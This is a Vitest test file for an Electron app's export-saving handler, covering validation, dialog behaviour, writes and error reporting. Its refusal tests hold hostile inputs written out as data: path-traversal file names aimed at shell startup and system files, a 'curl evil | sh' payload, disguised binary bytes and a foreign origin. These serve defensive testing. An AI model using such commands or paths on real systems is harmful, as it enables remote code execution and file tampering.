/**
 * Saving an export from main (`electron` mocked, the dialog faked, files written for real in a
 * temp folder): only the app's own frame may ask; the payload is checked before any dialog
 * opens (kind, a plain file name with the kind's extension, text or PNG bytes, size); the
 * dialog suggests the name in Downloads, then the folder last saved to; the chosen path gets
 * exactly the bytes sent (UTF-8 for text); a cancelled dialog writes nothing; a failed write
 * names the path and leaves no file behind.
 *
 * Not covered: Electron's real Save dialog and `BrowserWindow.fromWebContents` (no Electron
 * binary here); the wiring in index.ts is checked in main-index.test.ts.
 */
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it, vi } from 'vitest';
import { IPC, MAX_SAVE_BYTES, type SaveFileReply } from '../../../shared/bridge';
import { tempDir } from '../../helpers/temp';

vi.mock('electron', () => ({}));

const { checkSaveRequest, handleSaveFile, registerSaveFile, saveDialogOptions, writeError } = await import(
  '../../../electron/main/save-file'
);

const urls = { indexFileUrl: pathToFileURL('/opt/Undertow/resources/app.asar/out/renderer/index.html').href };
const fromApp = { senderFrame: { url: urls.indexFileUrl, parent: null } };
const root = tempDir('undertow-save-');
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82, 255, 0, 7]);
let folders = 0;

/** A fresh folder, and deps whose dialog answers `answer(folder)`. */
function setup(answer: (folder: string) => { canceled: boolean; filePath?: string }) {
  const folder = path.join(root, `f${++folders}`);
  fs.mkdirSync(folder);
  const parent = { id: 'window' };
  const deps = {
    showSaveDialog: vi.fn(async (_window: unknown, _options: unknown) => answer(folder)),
    windowFor: vi.fn(() => parent as never),
    defaultDirectory: vi.fn(() => '/home/u/Downloads'),
  };
  return { folder, deps, parent };
}

describe('checkSaveRequest', () => {
  it('accepts the four Replay exports', () => {
    expect(checkSaveRequest({ kind: 'png', fileName: 'undertow-run-3-bar-17.png', data: PNG })).toMatchObject({ ok: true, save: { kind: 'png' } });
    expect(checkSaveRequest({ kind: 'csv', fileName: 'undertow-run-3-events.csv', data: 'a,b\n' })).toMatchObject({ ok: true });
    expect(checkSaveRequest({ kind: 'csv', fileName: 'undertow-run-3-series.CSV', data: '' })).toMatchObject({ ok: true });
    expect(checkSaveRequest({ kind: 'json', fileName: 'undertow-run-3.json', data: '{}\n' })).toMatchObject({ ok: true });
  });

  it.each([
    ['export.csv', { code: 'bad_request' }],
    [null, { code: 'bad_request' }],
    [[1, 2], { code: 'bad_request' }],
    [{ kind: 'csv', fileName: 'a.csv', data: 'x', path: '/etc/cron.d/evil' }, { code: 'bad_request' }],
    [{ kind: 'csv', fileName: 'a.csv' }, { code: 'bad_request' }],
    [{ kind: 'exe', fileName: 'a.exe', data: 'x' }, { code: 'bad_request', where: { field: 'kind' } }],
    [{ kind: 'toString', fileName: 'a.toString', data: 'x' }, { code: 'bad_request', where: { field: 'kind' } }],
    [{ kind: 'csv', fileName: '../../.bashrc.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: '/etc/passwd.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: 'C:\\Windows\\a.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: '.hidden.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: 'a\u0000.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: 'a\n.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: ' a.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: 'a.csv.exe', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: 'a.json', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: '.csv', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: '', data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: `${'a'.repeat(252)}.csv`, data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: 42, data: 'x' }, { code: 'bad_request', where: { field: 'fileName' } }],
    [{ kind: 'csv', fileName: 'a.csv', data: PNG }, { code: 'bad_request', where: { field: 'data' } }],
    [{ kind: 'json', fileName: 'a.json', data: { run: 1 } }, { code: 'bad_request', where: { field: 'data' } }],
    [{ kind: 'png', fileName: 'a.png', data: 'iVBORw0KGgo=' }, { code: 'bad_request', where: { field: 'data' } }],
    [{ kind: 'png', fileName: 'a.png', data: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0]) }, { code: 'invalid_input', where: { field: 'data' } }],
    [{ kind: 'png', fileName: 'a.png', data: PNG.subarray(0, 4) }, { code: 'invalid_input', where: { field: 'data' } }],
  ] as [unknown, object][])('refuses %j', (request, error) => {
    expect(checkSaveRequest(request)).toMatchObject({ ok: false, error });
  });

  it('refuses an export over the size limit, counted in UTF-8 bytes', () => {
    expect(checkSaveRequest({ kind: 'csv', fileName: 'a.csv', data: 'x'.repeat(10) }, 10)).toMatchObject({ ok: true });
    expect(checkSaveRequest({ kind: 'csv', fileName: 'a.csv', data: 'x'.repeat(11) }, 10)).toMatchObject({ ok: false, error: { code: 'invalid_input', where: { field: 'data' } } });
    // Four characters, twelve bytes.
    expect(checkSaveRequest({ kind: 'csv', fileName: 'a.csv', data: '€€€€' }, 10)).toMatchObject({ ok: false, error: { message: 'the export is larger than 10 bytes' } });
    expect(checkSaveRequest({ kind: 'png', fileName: 'a.png', data: PNG }, PNG.length - 1)).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(MAX_SAVE_BYTES).toBe(256 * 1024 * 1024);
  });
});

describe('saveDialogOptions', () => {
  it('suggests the name in the folder, with a filter for the kind and overwrite confirmation', () => {
    const checked = checkSaveRequest({ kind: 'csv', fileName: 'undertow-run-3-events.csv', data: 'x' });
    if (!checked.ok) throw new Error('expected a valid request');
    expect(saveDialogOptions(checked.save, '/home/u/Downloads')).toEqual({
      title: 'Export',
      defaultPath: path.join('/home/u/Downloads', 'undertow-run-3-events.csv'),
      buttonLabel: 'Save',
      filters: [
        { name: 'CSV', extensions: ['csv'] },
        { name: 'All files', extensions: ['*'] },
      ],
      properties: ['showOverwriteConfirmation', 'createDirectory'],
    });
  });
});

describe('handleSaveFile', () => {
  it('writes exactly the PNG bytes where the user chose, with the sender’s window as the dialog’s parent', async () => {
    const { folder, deps, parent } = setup((dir) => ({ canceled: false, filePath: path.join(dir, 'chart.png') }));
    const reply = await handleSaveFile(fromApp, { kind: 'png', fileName: 'undertow-run-3-bar-17.png', data: PNG }, deps, urls);
    expect(reply).toEqual({ ok: true, path: path.join(folder, 'chart.png') });
    expect(new Uint8Array(fs.readFileSync(path.join(folder, 'chart.png')))).toEqual(PNG);
    expect(fs.readdirSync(folder)).toEqual(['chart.png']);
    expect(deps.windowFor).toHaveBeenCalledWith(fromApp);
    expect(deps.showSaveDialog).toHaveBeenCalledWith(
      parent,
      expect.objectContaining({ defaultPath: path.join('/home/u/Downloads', 'undertow-run-3-bar-17.png'), filters: [{ name: 'PNG image', extensions: ['png'] }, { name: 'All files', extensions: ['*'] }] }),
    );
  });

  it('writes text as UTF-8, replaces an existing file the user confirmed, and opens the next dialog in that folder', async () => {
    const { folder, deps } = setup((dir) => ({ canceled: false, filePath: path.join(dir, 'events.csv') }));
    fs.writeFileSync(path.join(folder, 'events.csv'), 'old content that is longer than the new one\n');
    const text = 'time,utc,kind,ref\n1584000000,2020-03-12T08:00:00.000Z,liquidation,L10 “€”\n';
    const state = {};
    const reply = await handleSaveFile(fromApp, { kind: 'csv', fileName: 'undertow-run-3-events.csv', data: text }, deps, urls, state);
    expect(reply).toEqual({ ok: true, path: path.join(folder, 'events.csv') });
    expect(fs.readFileSync(path.join(folder, 'events.csv'))).toEqual(Buffer.from(text, 'utf8'));
    expect(fs.readdirSync(folder)).toEqual(['events.csv']);

    await handleSaveFile(fromApp, { kind: 'json', fileName: 'undertow-run-3.json', data: '{}\n' }, deps, urls, state);
    expect(deps.showSaveDialog.mock.calls[1]![1]).toMatchObject({ defaultPath: path.join(folder, 'undertow-run-3.json') });
  });

  it('writes nothing and reports no error when the dialog is cancelled', async () => {
    for (const answer of [{ canceled: true, filePath: '' }, { canceled: true }, { canceled: false, filePath: '' }]) {
      const { folder, deps } = setup(() => answer);
      const write = vi.fn(async () => {});
      const reply = await handleSaveFile(fromApp, { kind: 'json', fileName: 'undertow-run-3.json', data: '{}' }, { ...deps, writeFile: write }, urls);
      expect(reply).toEqual({ ok: true, path: null });
      expect(write).not.toHaveBeenCalled();
      expect(fs.readdirSync(folder)).toEqual([]);
    }
  });

  it('refuses a hostile payload with a clear error before any dialog opens', async () => {
    const { deps } = setup((dir) => ({ canceled: false, filePath: path.join(dir, 'x') }));
    const hostile: unknown[] = [
      { kind: 'csv', fileName: '../../../home/u/.bashrc', data: 'curl evil | sh' },
      { kind: 'csv', fileName: 'a.csv', data: 'x', filePath: '/home/u/.bashrc' },
      { kind: 'png', fileName: 'a.png', data: new Uint8Array([1, 2, 3]) },
      'a.csv',
    ];
    for (const request of hostile) {
      const reply = (await handleSaveFile(fromApp, request, deps, urls)) as Extract<SaveFileReply, { ok: false }>;
      expect(reply.ok).toBe(false);
      expect(['bad_request', 'invalid_input']).toContain(reply.error.code);
      expect(reply.error.message.length).toBeGreaterThan(10);
    }
    expect(deps.showSaveDialog).not.toHaveBeenCalled();
  });

  it('refuses a frame that is not the app’s own top-level page', async () => {
    const { deps } = setup((dir) => ({ canceled: false, filePath: path.join(dir, 'x.csv') }));
    const request = { kind: 'csv', fileName: 'a.csv', data: 'x' };
    expect(await handleSaveFile({ senderFrame: { url: 'https://evil.example/', parent: null } }, request, deps, urls)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(await handleSaveFile({ senderFrame: { url: urls.indexFileUrl, parent: {} } }, request, deps, urls)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(await handleSaveFile({ senderFrame: null }, request, deps, urls)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(deps.showSaveDialog).not.toHaveBeenCalled();
  });

  it('names the chosen path when the write fails, and leaves no file behind', async () => {
    const { folder, deps } = setup((dir) => ({ canceled: false, filePath: path.join(dir, 'missing-folder', 'a.csv') }));
    const reply = await handleSaveFile(fromApp, { kind: 'csv', fileName: 'a.csv', data: 'x' }, deps, urls);
    const target = path.join(folder, 'missing-folder', 'a.csv');
    expect(reply).toEqual({ ok: false, error: { code: 'unavailable', message: `cannot write ${target}: the folder does not exist`, where: { file: target } } });

    // A folder where the file should go: the rename fails after the temporary file was written.
    const blocked = setup((dir) => ({ canceled: false, filePath: path.join(dir, 'taken.csv') }));
    fs.mkdirSync(path.join(blocked.folder, 'taken.csv'));
    const second = await handleSaveFile(fromApp, { kind: 'csv', fileName: 'a.csv', data: 'x' }, blocked.deps, urls);
    expect(second).toMatchObject({ ok: false, error: { code: 'unavailable', where: { file: path.join(blocked.folder, 'taken.csv') } } });
    expect((second as Extract<SaveFileReply, { ok: false }>).error.message).toMatch(new RegExp(`^cannot write ${path.join(blocked.folder, 'taken.csv').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: `));
    expect(fs.readdirSync(blocked.folder)).toEqual(['taken.csv']);
  });

  it('reports a write error with the path whatever the cause', () => {
    expect(writeError('/mnt/usb/a.csv', Object.assign(new Error('x'), { code: 'ENOSPC' }))).toEqual({
      code: 'unavailable',
      message: 'cannot write /mnt/usb/a.csv: no space left on the disk',
      where: { file: '/mnt/usb/a.csv' },
    });
    expect(writeError('/a.csv', Object.assign(new Error('odd'), { code: 'EWEIRD' })).message).toBe('cannot write /a.csv: EWEIRD');
    expect(writeError('/a.csv', new Error('odd')).message).toBe('cannot write /a.csv: odd');
  });

  it('opens one dialog at a time', async () => {
    let close: (value: { canceled: boolean }) => void = () => {};
    const deps = {
      showSaveDialog: vi.fn(() => new Promise<{ canceled: boolean }>((resolve) => (close = resolve))),
      windowFor: () => null,
      defaultDirectory: () => '/home/u/Downloads',
    };
    const state = {};
    const first = handleSaveFile(fromApp, { kind: 'csv', fileName: 'a.csv', data: 'x' }, deps, urls, state);
    expect(await handleSaveFile(fromApp, { kind: 'csv', fileName: 'b.csv', data: 'x' }, deps, urls, state)).toMatchObject({ ok: false, error: { code: 'conflict' } });
    close({ canceled: true });
    expect(await first).toEqual({ ok: true, path: null });
    expect(deps.showSaveDialog).toHaveBeenCalledOnce();
    handleSaveFile(fromApp, { kind: 'csv', fileName: 'c.csv', data: 'x' }, deps, urls, state).catch(() => {});
    expect(deps.showSaveDialog).toHaveBeenCalledTimes(2);
  });

  it('turns a failing dialog into an error value', async () => {
    const deps = { showSaveDialog: vi.fn(async () => Promise.reject(new Error('no display'))), windowFor: () => null, defaultDirectory: () => '/tmp' };
    expect(await handleSaveFile(fromApp, { kind: 'csv', fileName: 'a.csv', data: 'x' }, deps, urls)).toEqual({
      ok: false,
      error: { code: 'internal', message: 'the Save dialog failed: no display', where: {} },
    });
  });
});

describe('registerSaveFile', () => {
  it('handles exactly IPC.saveFile, writes through it, and can be removed', async () => {
    const handlers = new Map<string, (...args: unknown[]) => unknown>();
    const ipcMain = {
      handle: vi.fn((channel: string, handler: (...args: unknown[]) => unknown) => void handlers.set(channel, handler)),
      removeHandler: vi.fn((channel: string) => void handlers.delete(channel)),
    };
    const { folder, deps } = setup((dir) => ({ canceled: false, filePath: path.join(dir, 'run.json') }));
    const unregister = registerSaveFile(ipcMain as never, deps, urls);
    expect([...handlers.keys()]).toEqual([IPC.saveFile]);
    expect(await handlers.get(IPC.saveFile)!(fromApp, { kind: 'json', fileName: 'run.json', data: '{"a":1}\n' })).toEqual({ ok: true, path: path.join(folder, 'run.json') });
    expect(fs.readFileSync(path.join(folder, 'run.json'), 'utf8')).toBe('{"a":1}\n');
    unregister();
    expect(handlers.size).toBe(0);
  });
});
